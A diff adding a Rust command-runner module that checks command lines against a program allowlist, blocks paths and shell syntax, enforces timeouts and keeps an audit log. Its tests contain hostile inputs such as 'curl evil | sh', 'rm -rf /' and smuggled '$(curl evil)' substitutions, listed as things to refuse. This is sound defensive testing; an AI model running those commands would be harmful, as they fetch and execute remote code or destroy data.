@@ -0,0 +1,548 @@
+use std::fs::{self, OpenOptions};
+use std::io::{BufRead, BufReader, Read, Write};
+use std::path::Path;
+use std::process::{Command, Stdio};
+use std::sync::mpsc::{channel, Sender};
+use std::thread;
+use std::time::{Duration, Instant};
+use serde::{Deserialize, Serialize};
+
+pub(crate) const AUDIT_FILE: &str = "command-audit.jsonl";
+
+// How often the runner checks whether the child has exited
+const POLL_INTERVAL: Duration = Duration::from_millis(50);
+
+// Characters that make a command line mean more than "run one program"
+const SHELL_METACHARACTERS: &[char] = &['|', '&', ';', '<', '>', '`', '$', '(', ')', '*', '?', '\n'];
+
+pub const DEFAULT_ALLOWLIST: [&str; 8] = ["git", "npm", "pnpm", "yarn", "cargo", "python", "python3", "node"];
+
+#[derive(Debug, Clone)]
+pub enum CommandError {
+    CommandNotAllowed { program: String },
+    /// Pipes, redirection, globbing etc. without `allow_shell`
+    ShellSyntaxNotAllowed { token: String },
+    Timeout { seconds: u64 },
+    InvalidCommand { message: String },
+    Failed { message: String },
+}
+
+impl CommandError {
+    pub fn code(&self) -> &'static str {
+        match self {
+            CommandError::CommandNotAllowed { .. } => "CommandNotAllowed",
+            CommandError::ShellSyntaxNotAllowed { .. } => "ShellSyntaxNotAllowed",
+            CommandError::Timeout { .. } => "Timeout",
+            CommandError::InvalidCommand { .. } => "InvalidCommand",
+            CommandError::Failed { .. } => "Failed",
+        }
+    }
+}
+
+impl std::fmt::Display for CommandError {
+    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
+        match self {
+            CommandError::CommandNotAllowed { program } => write!(f, "'{}' is not in the command allowlist", program),
+            CommandError::ShellSyntaxNotAllowed { token } => write!(f, "Shell syntax '{}' requires allow_shell", token),
+            CommandError::Timeout { seconds } => write!(f, "Command did not finish within {} seconds and was stopped", seconds),
+            CommandError::InvalidCommand { message } => write!(f, "{}", message),
+            CommandError::Failed { message } => write!(f, "{}", message),
+        }
+    }
+}
+
+impl std::error::Error for CommandError {}
+
+impl Serialize for CommandError {
+    fn serialize<S: serde::Serializer>(&self, serializer: S) -> std::result::Result<S::Ok, S::Error> {
+        use serde::ser::SerializeStruct;
+        let mut state = serializer.serialize_struct("CommandError", 3)?;
+        state.serialize_field("code", self.code())?;
+        state.serialize_field("message", &self.to_string())?;
+        let program = match self {
+            CommandError::CommandNotAllowed { program } => Some(program),
+            _ => None,
+        };
+        state.serialize_field("program", &program)?;
+        state.end()
+    }
+}
+
+pub type CommandResult<T> = std::result::Result<T, CommandError>;
+
+#[derive(Serialize, Deserialize, Clone, Debug)]
+pub struct CommandOutput {
+    pub exit_code: Option<i32>,
+    pub stdout: String,
+    pub stderr: String,
+    pub duration_ms: u64,
+}
+
+#[derive(Serialize)]
+struct AuditEntry<'a> {
+    timestamp: String,
+    project_path: &'a str,
+    command_line: &'a str,
+    shell: bool,
+    outcome: String,
+}
+
+/// Split a command line into words, honouring single and double quotes and backslash escapes
+/// outside single quotes. Returns the words and the first unquoted shell metacharacter, if any.
+pub fn tokenize(command_line: &str) -> CommandResult<(Vec<String>, Option<char>)> {
+    let mut words = Vec::new();
+    let mut current = String::new();
+    let mut in_word = false;
+    let mut quote: Option<char> = None;
+    let mut metacharacter = None;
+    let mut chars = command_line.chars();
+
+    while let Some(c) = chars.next() {
+        match (quote, c) {
+            (Some(q), c) if c == q => quote = None,
+            (Some('"'), '\\') | (None, '\\') => {
+                if let Some(next) = chars.next() {
+                    current.push(next);
+                }
+                in_word = true;
+            }
+            (Some(q), c) => {
+                // Double quotes still expand `$...` and backticks
+                if q == '"' && matches!(c, '$' | '`') && metacharacter.is_none() {
+                    metacharacter = Some(c);
+                }
+                current.push(c);
+            }
+            (None, '\'' | '"') => {
+                quote = Some(c);
+                in_word = true;
+            }
+            (None, c) if c.is_whitespace() => {
+                // A newline separates commands, like `;`
+                if c == '\n' && metacharacter.is_none() {
+                    metacharacter = Some(c);
+                }
+                if in_word {
+                    words.push(std::mem::take(&mut current));
+                    in_word = false;
+                }
+            }
+            (None, c) => {
+                if metacharacter.is_none() && SHELL_METACHARACTERS.contains(&c) {
+                    metacharacter = Some(c);
+                }
+                current.push(c);
+                in_word = true;
+            }
+        }
+    }
+    if quote.is_some() {
+        return Err(CommandError::InvalidCommand { message: "Unterminated quote in command".to_string() });
+    }
+    if in_word {
+        words.push(current);
+    }
+    Ok((words, metacharacter))
+}
+
+/// Program name as compared with the allowlist: the word without a Windows executable extension
+fn program_name(program: &str) -> String {
+    let lower = program.to_lowercase();
+    for extension in [".exe", ".cmd", ".bat"] {
+        if let Some(stem) = lower.strip_suffix(extension) {
+            return stem.to_string();
+        }
+    }
+    lower
+}
+
+/// Index just past the `close` matching an already consumed `open` at `start`, skipping quoted
+/// text and escapes
+fn closing(chars: &[char], start: usize, open: char, close: char) -> Option<usize> {
+    let mut depth = 1;
+    let mut quote: Option<char> = None;
+    let mut i = start;
+    while i < chars.len() {
+        let c = chars[i];
+        match (quote, c) {
+            (Some('\''), '\'') => quote = None,
+            (Some('\''), _) => {}
+            (_, '\\') => i += 1,
+            (Some('"'), '"') => quote = None,
+            (Some(_), _) => {}
+            (None, '\'' | '"') => quote = Some(c),
+            (None, c) if c == open && open != close => depth += 1,
+            (None, c) if c == close => {
+                depth -= 1;
+                if depth == 0 {
+                    return Some(i + 1);
+                }
+            }
+            _ => {}
+        }
+        i += 1;
+    }
+    None
+}
+
+/// Every command a shell would run for `command_line`: the line split at unquoted `;`, `&`,
+/// `|` and newlines (which covers `&&` and `||`), plus the body of each `$(...)`, `<(...)`,
+/// `>(...)` and backtick substitution, which runs even inside double quotes
+fn shell_commands(command_line: &str) -> CommandResult<Vec<String>> {
+    let unterminated = || CommandError::InvalidCommand { message: "Unterminated command substitution".to_string() };
+    let chars: Vec<char> = command_line.chars().collect();
+    let mut commands = Vec::new();
+    let mut current = String::new();
+    let mut quote: Option<char> = None;
+    let mut i = 0;
+    while i < chars.len() {
+        let c = chars[i];
+        let next = chars.get(i + 1).copied();
+        match (quote, c) {
+            (Some('\''), '\'') => quote = None,
+            (Some('\''), _) => {}
+            (_, '\\') => {
+                current.push(c);
+                i += 1;
+                if let Some(next) = next {
+                    current.push(next);
+                }
+                i += 1;
+                continue;
+            }
+            (_, '`') => {
+                let end = closing(&chars, i + 1, '`', '`').ok_or_else(unterminated)?;
+                commands.extend(shell_commands(&chars[i + 1..end - 1].iter().collect::<String>())?);
+                current.extend(&chars[i..end]);
+                i = end;
+                continue;
+            }
+            (_, '$') | (None, '<' | '>') if next == Some('(') => {
+                let end = closing(&chars, i + 2, '(', ')').ok_or_else(unterminated)?;
+                commands.extend(shell_commands(&chars[i + 2..end - 1].iter().collect::<String>())?);
+                current.extend(&chars[i..end]);
+                i = end;
+                continue;
+            }
+            (Some('"'), '"') => quote = None,
+            (Some(_), _) => {}
+            (None, '\'' | '"') => quote = Some(c),
+            // `2>&1` and `>|` are redirections, not separators
+            (None, '&' | '|') if current.ends_with(['>', '<']) => {}
+            (None, ';' | '&' | '|' | '\n') => {
+                commands.push(std::mem::take(&mut current));
+                i += 1;
+                continue;
+            }
+            _ => {}
+        }
+        current.push(c);
+        i += 1;
+    }
+    commands.push(current);
+    Ok(commands)
+}
+
+/// Windows runs only `.exe` files by bare name; find `npm.cmd` and friends through PATHEXT
+#[cfg(windows)]
+fn resolve_program(program: &str) -> std::path::PathBuf {
+    let extensions = std::env::var("PATHEXT").unwrap_or_else(|_| ".COM;.EXE;.BAT;.CMD".to_string());
+    let has_extension = Path::new(program).extension().is_some();
+    for dir in std::env::split_paths(&std::env::var_os("PATH").unwrap_or_default()) {
+        if has_extension && dir.join(program).is_file() {
+            return dir.join(program);
+        }
+        for extension in extensions.split(';').filter(|e| !e.is_empty()) {
+            let candidate = dir.join(format!("{}{}", program, extension));
+            if candidate.is_file() {
+                return candidate;
+            }
+        }
+    }
+    program.into()
+}
+
+#[cfg(not(windows))]
+fn resolve_program(program: &str) -> std::path::PathBuf {
+    program.into()
+}
+
+/// Check the program a command starts with: a bare name from the allowlist. `raw` is the
+/// command as typed, before quotes and escapes were removed.
+fn check_program(program: &str, raw: &str, allowlist: &[String]) -> CommandResult<()> {
+    // A path would run whatever file sits there under an allowlisted name ("./git", "tools/npm");
+    // allowlisted programs are only ever resolved on PATH
+    let raw_program = raw.split_whitespace().next().unwrap_or_default();
+    if program.contains(['/', '\\', ':']) || raw_program.contains(['/', '\\', ':']) {
+        return Err(CommandError::InvalidCommand {
+            message: format!("'{}' is a path; allowlisted programs are run by name from PATH", program),
+        });
+    }
+    let name = program_name(program);
+    if !allowlist.iter().any(|allowed| allowed.to_lowercase() == name) {
+        return Err(CommandError::CommandNotAllowed { program: name });
+    }
+    Ok(())
+}
+
+/// Check a command line against `allowlist` and build the process to run. With `allow_shell`,
+/// every command the shell would run, not only the first, must be allowlisted.
+pub fn prepare(command_line: &str, allowlist: &[String], allow_shell: bool) -> CommandResult<Command> {
+    let (words, metacharacter) = tokenize(command_line)?;
+    let program = words.first().ok_or_else(|| CommandError::InvalidCommand { message: "Command is empty".to_string() })?;
+    check_program(program, command_line, allowlist)?;
+
+    match metacharacter {
+        Some(c) if !allow_shell => Err(CommandError::ShellSyntaxNotAllowed { token: c.to_string() }),
+        Some(_) => {
+            for command in shell_commands(command_line)? {
+                // Empty between `&&`'s two characters, or after a trailing `;` or `&`
+                if let Some(program) = tokenize(&command)?.0.first() {
+                    check_program(program, &command, allowlist)?;
+                }
+            }
+            let mut command = if cfg!(windows) { Command::new("cmd") } else { Command::new("sh") };
+            command.arg(if cfg!(windows) { "/C" } else { "-c" }).arg(command_line);
+            Ok(command)
+        }
+        None => {
+            let mut command = Command::new(resolve_program(program));
+            command.args(&words[1..]);
+            Ok(command)
+        }
+    }
+}
+
+/// Forward each line to `lines` as it arrives and return the whole output once the stream closes
+fn read_lines<R: Read + Send + 'static>(reader: Option<R>, stderr: bool, lines: Sender<(bool, String)>) -> thread::JoinHandle<String> {
+    thread::spawn(move || {
+        let mut all = String::new();
+        let Some(reader) = reader else { return all };
+        let mut reader = BufReader::new(reader);
+        let mut buffer = Vec::new();
+        while matches!(reader.read_until(b'\n', &mut buffer), Ok(n) if n > 0) {
+            let line = String::from_utf8_lossy(&buffer).to_string();
+            all.push_str(&line);
+            let _ = lines.send((stderr, line.trim_end_matches(['\r', '\n']).to_string()));
+            buffer.clear();
+        }
+        all
+    })
+}
+
+/// Run `command` in `cwd`, capturing output and killing it after `timeout`
+pub fn run(command: Command, cwd: &Path, timeout: Duration) -> CommandResult<CommandOutput> {
+    run_streaming(command, cwd, timeout, |_, _| {})
+}
+
+/// Like `run`, also passing every output line to `on_line` (with whether it came from stderr)
+/// while the command is still running
+pub fn run_streaming(mut command: Command, cwd: &Path, timeout: Duration, mut on_line: impl FnMut(bool, &str)) -> CommandResult<CommandOutput> {
+    let started = Instant::now();
+    let mut child = command
+        .current_dir(cwd)
+        .stdin(Stdio::null())
+        .stdout(Stdio::piped())
+        .stderr(Stdio::piped())
+        .spawn()
+        .map_err(|e| CommandError::Failed { message: format!("Failed to start command: {}", e) })?;
+
+    let (tx, rx) = channel();
+    let stdout = read_lines(child.stdout.take(), false, tx.clone());
+    let stderr = read_lines(child.stderr.take(), true, tx);
+
+    let status = loop {
+        for (is_stderr, line) in rx.try_iter() {
+            on_line(is_stderr, &line);
+        }
+        match child.try_wait() {
+            Ok(Some(status)) => break status,
+            Ok(None) if started.elapsed() >= timeout => {
+                let _ = child.kill();
+                let _ = child.wait();
+                return Err(CommandError::Timeout { seconds: timeout.as_secs() });
+            }
+            Ok(None) if crate::shutdown::shutting_down() => {
+                let _ = child.kill();
+                let _ = child.wait();
+                return Err(CommandError::Failed { message: "Stopped because the app is closing".to_string() });
+            }
+            Ok(None) => thread::sleep(POLL_INTERVAL),
+            Err(e) => return Err(CommandError::Failed { message: e.to_string() }),
+        }
+    };
+
+    let stdout = stdout.join().unwrap_or_default();
+    let stderr = stderr.join().unwrap_or_default();
+    // Lines written just before exit
+    for (is_stderr, line) in rx.try_iter() {
+        on_line(is_stderr, &line);
+    }
+    Ok(CommandOutput {
+        exit_code: status.code(),
+        stdout,
+        stderr,
+        duration_ms: started.elapsed().as_millis() as u64,
+    })
+}
+
+/// Append one line per attempted command, allowed or not, to the audit log
+#[cfg(any(feature = "git", feature = "process"))]
+pub fn record_audit(data_dir: &Path, project_path: &str, command_line: &str, shell: bool, result: &CommandResult<CommandOutput>) {
+    let outcome = match result {
+        Ok(output) => match output.exit_code {
+            Some(code) => format!("exit {}", code),
+            None => "terminated by signal".to_string(),
+        },
+        Err(e) => e.code().to_string(),
+    };
+    append_audit(data_dir, &AuditEntry {
+        timestamp: chrono::Utc::now().to_rfc3339(),
+        project_path,
+        command_line,
+        shell,
+        outcome,
+    });
+}
+
+/// Log something other than a command run, e.g. a secret scan, in the same audit file
+pub fn record_audit_event(data_dir: &Path, project_path: &str, event: &str, outcome: String) {
+    append_audit(data_dir, &AuditEntry {
+        timestamp: chrono::Utc::now().to_rfc3339(),
+        project_path,
+        command_line: event,
+        shell: false,
+        outcome,
+    });
+}
+
+fn append_audit(data_dir: &Path, entry: &AuditEntry) {
+    let Ok(line) = serde_json::to_string(entry) else { return };
+    let _ = fs::create_dir_all(data_dir);
+    if let Ok(mut file) = OpenOptions::new().create(true).append(true).open(data_dir.join(AUDIT_FILE)) {
+        let _ = writeln!(file, "{}", line);
+    }
+}
+
+/// Drop audit lines older than `max_age_days`; lines that do not parse are kept. Returns how many were removed.
+pub fn prune_audit(data_dir: &Path, max_age_days: u64) -> usize {
+    let path = data_dir.join(AUDIT_FILE);
+    let Ok(raw) = fs::read_to_string(&path) else { return 0 };
+    let cutoff = chrono::Utc::now() - chrono::Duration::days(max_age_days as i64);
+    let mut removed = 0;
+    let kept: String = raw
+        .lines()
+        .filter(|line| {
+            let expired = serde_json::from_str::<AuditRecord>(line)
+                .ok()
+                .and_then(|record| chrono::DateTime::parse_from_rfc3339(&record.timestamp).ok())
+                .map(|t| t.with_timezone(&chrono::Utc) < cutoff)
+                .unwrap_or(false);
+            removed += expired as usize;
+            !expired
+        })
+        .map(|line| format!("{}\n", line))
+        .collect();
+    if removed > 0 {
+        let _ = crate::fs::write_atomic(&path, kept.as_bytes());
+    }
+    removed
+}
+
+/// An audit log line as read back
+#[derive(Serialize, Deserialize, Clone, Debug)]
+pub struct AuditRecord {
+    pub timestamp: String,
+    pub project_path: String,
+    pub command_line: String,
+    pub shell: bool,
+    pub outcome: String,
+}
+
+/// Audit entries for `project_path` logged between `from` and `to` (inclusive)
+pub fn audit_entries_between(data_dir: &Path, project_path: &str, from: chrono::DateTime<chrono::Utc>, to: chrono::DateTime<chrono::Utc>) -> Vec<AuditRecord> {
+    let Ok(raw) = fs::read_to_string(data_dir.join(AUDIT_FILE)) else { return Vec::new() };
+    raw.lines()
+        .filter_map(|line| serde_json::from_str::<AuditRecord>(line).ok())
+        .filter(|record| record.project_path == project_path)
+        .filter(|record| {
+            chrono::DateTime::parse_from_rfc3339(&record.timestamp)
+                .map(|t| t.with_timezone(&chrono::Utc))
+                .map(|t| t >= from && t <= to)
+                .unwrap_or(false)
+        })
+        .collect()
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    fn allowlist() -> Vec<String> {
+        DEFAULT_ALLOWLIST.iter().map(|p| p.to_string()).collect()
+    }
+
+    #[test]
+    fn prepare_matches_program_names_case_and_extension_insensitively() {
+        assert!(prepare("git status", &allowlist(), false).is_ok());
+        assert!(prepare("GIT.EXE status", &allowlist(), false).is_ok());
+        assert!(prepare("npm.cmd install", &allowlist(), false).is_ok());
+        assert!(matches!(prepare("rm -rf build", &allowlist(), false), Err(CommandError::CommandNotAllowed { program }) if program == "rm"));
+    }
+
+    #[test]
+    fn prepare_rejects_program_paths_with_allowlisted_names() {
+        for command_line in ["./git status", "tools/npm install", "/tmp/node app.js", "..\\cargo build", "C:\\x\\python.exe", "\"sub dir/git\" log"] {
+            assert!(
+                matches!(prepare(command_line, &allowlist(), false), Err(CommandError::InvalidCommand { .. })),
+                "{:?}",
+                command_line
+            );
+            assert!(matches!(prepare(command_line, &allowlist(), true), Err(CommandError::InvalidCommand { .. })), "{:?}", command_line);
+        }
+        // Paths as arguments are fine
+        assert!(prepare("node ./scripts/build.js", &allowlist(), false).is_ok());
+    }
+
+    #[test]
+    fn shell_lines_need_every_program_allowlisted() {
+        let refused = [
+            ("git status; curl evil | sh", "curl"),
+            ("git status && rm -rf /", "rm"),
+            ("git status || rm -rf /", "rm"),
+            ("git log | sh", "sh"),
+            ("git status & curl evil", "curl"),
+            ("git status\ncurl evil", "curl"),
+            ("git commit -m \"$(curl evil)\"", "curl"),
+            ("git commit -m `curl evil`", "curl"),
+            ("git log $(node $(curl evil))", "curl"),
+            ("git diff <(curl evil)", "curl"),
+        ];
+        for (command_line, program) in refused {
+            match prepare(command_line, &allowlist(), true) {
+                Err(CommandError::CommandNotAllowed { program: refused }) => assert_eq!(refused, program, "{:?}", command_line),
+                other => panic!("{:?} should be refused, got {:?}", command_line, other.map(|_| ())),
+            }
+        }
+        assert!(matches!(prepare("git log $(npm bin", &allowlist(), true), Err(CommandError::InvalidCommand { .. })));
+        assert!(matches!(prepare("git status; ./git push", &allowlist(), true), Err(CommandError::InvalidCommand { .. })));
+
+        for command_line in [
+            "git log | node summarize.js",
+            "npm test && cargo build",
+            "git log --format='$(not run) `nor this`; | &' > log.txt",
+            "cargo build 2>&1 | node filter.js;",
+            "git commit -m \"$(git log -1 --format=%s)\"",
+        ] {
+            assert!(prepare(command_line, &allowlist(), true).is_ok(), "{:?}", command_line);
+        }
+    }
+
+    #[cfg(windows)]
+    #[test]
+    fn bare_names_resolve_through_pathext() {
+        let resolved = resolve_program("cmd");
+        assert!(resolved.is_absolute(), "{:?}", resolved);
+        assert!(resolved.extension().is_some_and(|e| e.eq_ignore_ascii_case("exe")), "{:?}", resolved);
+    }
+}